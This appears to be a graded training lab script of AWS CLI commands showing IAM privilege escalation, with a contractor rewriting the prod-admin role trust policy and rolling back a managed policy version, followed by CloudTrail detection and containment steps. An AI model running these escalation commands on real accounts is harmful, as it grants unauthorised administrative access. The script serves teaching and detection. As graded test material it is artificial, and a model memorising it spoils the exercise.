# stops before the last step (fix-rollback): trust-policy-escalation
# Lines exactly as a learner types them; placeholders are filled in by the grader.
# step locked-out
aws sts assume-role --role-arn arn:aws:iam::{{account}}:role/prod-admin --role-session-name c1 --profile contractor
# step rewrite-trust
cat > evil-trust.json <<'EOF'
{
  "Version": "2012-10-17",
  "Statement": [
    {
      "Effect": "Allow",
      "Principal": {"AWS": ["arn:aws:iam::{{account}}:user/admin", "arn:aws:iam::{{account}}:user/contractor"]},
      "Action": "sts:AssumeRole"
    }
  ]
}
EOF
aws iam update-assume-role-policy --role-name prod-admin --policy-document file://evil-trust.json --profile contractor
# step walk-in
aws sts assume-role --role-arn arn:aws:iam::{{account}}:role/prod-admin --role-session-name c1 --profile contractor
# step detect-trust-change
aws cloudtrail lookup-events --lookup-attributes AttributeKey=EventName,AttributeValue=UpdateAssumeRolePolicy
# step contain
aws iam update-assume-role-policy --role-name prod-admin --policy-document file://prod-admin-trust.json
aws iam put-user-policy --user-name contractor --policy-name contractor-tools --policy-document '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":["iam:GetRole","iam:ListRoles"],"Resource":"arn:aws:iam::{{account}}:role/*"}]}'
# step version-rollback
aws iam list-policy-versions --policy-arn arn:aws:iam::{{account}}:policy/ContractorPolicy --profile contractor
aws iam set-default-policy-version --policy-arn arn:aws:iam::{{account}}:policy/ContractorPolicy --version-id v1 --profile contractor
aws iam list-users --profile contractor
# step detect-rollback
aws cloudtrail lookup-events --lookup-attributes AttributeKey=EventName,AttributeValue=SetDefaultPolicyVersion
